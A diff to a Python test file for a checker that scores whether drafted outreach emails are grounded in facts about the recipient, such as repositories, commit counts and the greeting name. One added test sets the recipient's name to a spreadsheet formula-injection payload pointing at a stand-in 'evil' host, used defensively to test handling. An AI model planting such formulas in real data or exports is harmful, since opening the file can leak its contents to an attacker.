@@ -237,8 +237,9 @@ def test_strip_footer_and_length_words() -> None:
 def test_groundedness_of_a_grounded_draft() -> None:
     fact = Fact(name="recent_project", value="alice/fastgrad", source="signal:ml_contributor repo:alice/fastgrad")
     message = draft("Hi Alice,\n\nI saw your 42 commits to alice/fastgrad.\n\nThanks,\nSam", facts=[fact])
-    # the fact, the repository alice/fastgrad, the number 42; the footer's 500 and 94105 are not the draft's
-    assert groundedness(message, alice()) == {"score": 1.0, "checked": 3, "ungrounded": []}
+    # the fact, the repository alice/fastgrad, the number 42, the greeting "Alice"; the footer's 500
+    # and 94105 are not the draft's
+    assert groundedness(message, alice()) == {"score": 1.0, "checked": 4, "ungrounded": []}
 
 
 def test_groundedness_lists_what_the_evidence_lacks() -> None:
@@ -248,6 +249,14 @@ def test_groundedness_lists_what_the_evidence_lacks() -> None:
     # 6 claims: the fact, repos alice/fastgrad + bob/secret + alice/tinyjit, numbers 97 + 42; 3 grounded
     assert result["checked"] == 6 and result["score"] == 0.5
     assert result["ungrounded"] == ["fact company='Google'", "repository bob/secret", "number 97"]
+
+
+def test_groundedness_counts_whom_the_greeting_names_and_praise_the_evidence_lacks() -> None:
+    result = groundedness(draft("Hi alice-the-great,\n\nCongrats on the award you won."), alice())
+    assert result["ungrounded"] == ["achievement award", "achievement won", "greeting alice-the-great"]
+    hostile = alice().model_copy(update={"name": '=HYPERLINK("http://evil/?"&A2,"Click")'})
+    assert groundedness(draft("Hi there,\n\nI saw alice/fastgrad."), hostile)["ungrounded"] == []
+    assert groundedness(draft("Hi =HYPERLINK,\n\nI saw alice/fastgrad."), hostile)["ungrounded"] == ["greeting =HYPERLINK"]
 
 
 def test_groundedness_of_links_emails_and_nothing() -> None:
